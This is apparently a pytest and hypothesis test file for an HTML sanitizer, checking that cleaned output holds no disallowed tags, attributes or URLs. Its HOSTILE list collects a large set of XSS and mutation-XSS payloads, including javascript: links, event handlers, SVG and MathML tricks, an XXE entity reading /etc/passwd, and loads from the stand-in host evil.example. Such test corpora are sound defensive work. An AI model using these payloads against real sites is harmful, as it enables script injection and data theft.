"""Hostile HTML. The oracle is another parser than the cleaner's: lxml reads what came out."""

import re
import unicodedata
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as pages

from feeds.cleaner import ATTRIBUTES, TAGS, clean
from feeds.incoming import no_pictures
from feeds.soup import meaning

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src='https://evil.example/x.js'></script>",
    "<<script>alert(1);//<</script>",
    "<script\x0c>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src='picture:0' onload=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img srcset='https://evil.example/a 1x' src='picture:0'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='picture:0\" onerror=\"alert(1)'>",
    "<img dynsrc='https://evil.example/' lowsrc='https://evil.example/'>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)'>x</a>",
    "<a href=' \x01 javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='ftp://evil.example/'>x</a>",
    "<a href='intent://x#Intent;scheme=http;end'>x</a>",
    "<a href='picture:0'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='https://good.example/' target=_blank rel=opener ping='https://evil.example/'>x</a>",
    "<a href='https://good.example/' onclick=alert(1)>x</a>",
    "<a href='https://good.example/\" onmouseover=\"alert(1)'>x</a>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x archive='https://evil.example/'></applet>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<video src='https://evil.example/v' poster='https://evil.example/p' autoplay></video>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<picture><source srcset='https://evil.example/a'><img src='picture:0'></picture>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>p{background:url(https://evil.example/)}</style>",
    "<p style='background:url(https://evil.example/)'>x</p>",
    "<p style='expression(alert(1))'>x</p>",
    '<div style="position:fixed;inset:0">x</div>',
    "<body onload=alert(1) background='https://evil.example/'>x",
    "<table background='https://evil.example/'><td background='https://evil.example/'>x</table>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<form action='https://evil.example/'><input name=q autofocus onfocus=alert(1)></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<isindex action='javascript:alert(1)' type=submit>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onpointerover=alert(1) contenteditable autofocus tabindex=1>x</p>",
    "<div id=location name=cookie class=x data-x=1>x</div>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<q cite='https://evil.example/'>x</q>",
    "<ol start='1' onclick=alert(1)><li value=javascript:1>x</ol>",
    "<time datetime='\"><script>alert(1)</script>'>x</time>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<p dir='javascript:alert(1)'>x</p>",
    "<col span='1' width='expression(alert(1))'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href=https://a.example/><b><a href=javascript:alert(1)>x",
    "<table><a href=javascript:alert(1)><tr><td>x</table>",
    "<b><p><i></b><script>alert(1)</script>",
    "<x onclick=alert(1)><custom-element is=script>x</custom-element>",
    "<image src=x onerror=alert(1)>",
    "<input type=image src='https://evil.example/'>",
    "<keygen autofocus onfocus=alert(1)>",
    "<portal src='https://evil.example/'></portal>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<p>\ud83d<script>alert(1)</script>",
    "<\x00script>alert(1)</\x00script>",
    "<img src='picture:0' usemap='#m'><map name=m><area href='javascript:alert(1)'></map>",
]

BENIGN = [
    '<p dir="rtl" lang="fa">او می‌گوید: «نمی‌دانم» — <bdi dir="ltr">GPT-4</bdi> را <em>دیدم</em></p>',
    '<p dir="rtl" lang="ar">قَالَ الرَّئِيسُ (<bdi>BBC</bdi>) إنّ ١٢٣ شخصًا</p>',
    '<p dir="rtl" lang="he">שָׁלוֹם <bdo dir="ltr">abc</bdo> עולם</p>',
    '<p dir="rtl" lang="ug">دۇنيا كىشىلىك ھوقۇقى</p><p dir="rtl" lang="ur">انسانی حقوق</p>',
    '<ruby lang="ja">漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby>',
    (
        '<table><caption>c</caption><thead><tr><th scope="col" colspan="2">h</th></tr></thead>'
        '<tbody><tr><td rowspan="2">1</td><td>2</td></tr></tbody></table>'
    ),
    '<details><summary>s</summary><p>t <time datetime="2026-11-23">d</time></p></details>',
    '<p>\u2067שלום\u2069 a\u200cb\u200dc &amp; &lt;x&gt; <q>q</q> <abbr title="t">t</abbr></p>',
]

SCHEMES = re.compile(r"https?://|mailto:")


def elements(html: str) -> Iterator[pages.HtmlElement]:
    """What another parser sees in it."""
    tree = pages.fragment_fromstring(html, create_parent="main")
    return (one for one in tree.iter() if one is not tree)


def faults(html: str) -> list[str]:
    """Everything in `html` that may not stand in an article."""
    found = []
    for one in elements(html):
        if not isinstance(one.tag, str) or one.tag not in TAGS:
            found.append(str(one.tag))
            continue
        for name, value in one.attrib.items():
            if name not in ATTRIBUTES["*"] | ATTRIBUTES.get(one.tag, set()) | {"rel"}:
                found.append(f"{one.tag} {name}")
            if name == "href" and not SCHEMES.match(str(value)):
                found.append(f"href {value!s}")
            if name == "src" and not re.fullmatch(r"picture:\d{1,4}", str(value)):
                found.append(f"src {value!s}")
    return found


def test_the_corpus_is_worth_its_name() -> None:
    assert len(set(HOSTILE)) >= 60
    assert sum(bool(faults(one)) for one in HOSTILE) > 60


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_survives_the_cleaner(payload: str) -> None:
    cleaned = clean(f"<p>before</p>{payload}<p>after</p>")

    assert faults(cleaned) == []
    assert "before" in cleaned
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_survives_the_whole_way(payload: str) -> None:
    found = meaning(
        f"<p>before</p>{payload}",
        language="en",
        title="",
        base="https://paper.example/1",
        pictures=no_pictures,
    )
    cleaned = clean(found.html)

    assert faults(cleaned) == []
    assert "<img" not in cleaned  # no picture had bytes, so none may be shown
    assert "evil.example" not in re.sub(r"<a [^>]*>[^<]*</a>", "", cleaned)


@pytest.mark.parametrize("text", BENIGN)
def test_what_is_good_stays_to_the_letter(text: str) -> None:
    assert clean(text) == text


@pytest.mark.parametrize("text", BENIGN)
def test_no_letter_is_lost_on_the_whole_way(text: str) -> None:
    found = meaning(text, language="fa", title="", base=None, pictures=no_pictures)

    before = pages.fragment_fromstring(text, create_parent="p").text_content()
    after = pages.fragment_fromstring(clean(found.html), create_parent="p").text_content()
    assert after == unicodedata.normalize("NFC", before)


def test_a_mark_that_would_join_a_bracket_does_not_eat_the_tag() -> None:
    text = "<p>\u0338slashed</p>"

    assert clean(text) == text


def test_every_link_bears_no_referrer_and_no_target() -> None:
    assert clean('<a href="https://a.example/x" target="_blank">x</a>') == (
        '<a href="https://a.example/x" rel="noreferrer noopener nofollow">x</a>'
    )


def test_nesting_beyond_reason_costs_no_time_and_leaves_the_words() -> None:
    cleaned = clean("<div><b>" * 100_000 + "words" + "<p>more")

    assert "words" in cleaned
    assert "<div>" not in cleaned


def test_many_unclosed_paragraphs_are_no_nesting() -> None:
    assert clean("<p>a<br>b" * 1000).count("<p>") == 1000


MARKUP = st.lists(
    st.one_of(
        st.sampled_from([*HOSTILE, *BENIGN]),
        st.sampled_from([f"<{name}>" for name in sorted(TAGS | {"svg", "math", "style", "form"})]),
        st.sampled_from([f"</{name}>" for name in sorted(TAGS | {"svg", "math", "style"})]),
        st.sampled_from(["<pre>\n\n", "<!--", "-->", "<p dir=rtl>", "<", ">", "&", '"', "\n"]),
        st.text(st.characters(), max_size=10),
    ),
    max_size=25,
).map("".join)


@settings(max_examples=400, deadline=None)
@given(MARKUP)
def test_cleaning_never_raises_and_cleans_once_for_all(html: str) -> None:
    cleaned = clean(html)

    assert clean(cleaned) == cleaned
    assert faults(cleaned) == []


@settings(max_examples=150, deadline=None)
@given(MARKUP)
def test_any_markup_makes_an_article_without_faults(html: str) -> None:
    found = meaning(html, language="en", title="", base=None, pictures=no_pictures)

    assert faults(clean(found.html)) == []
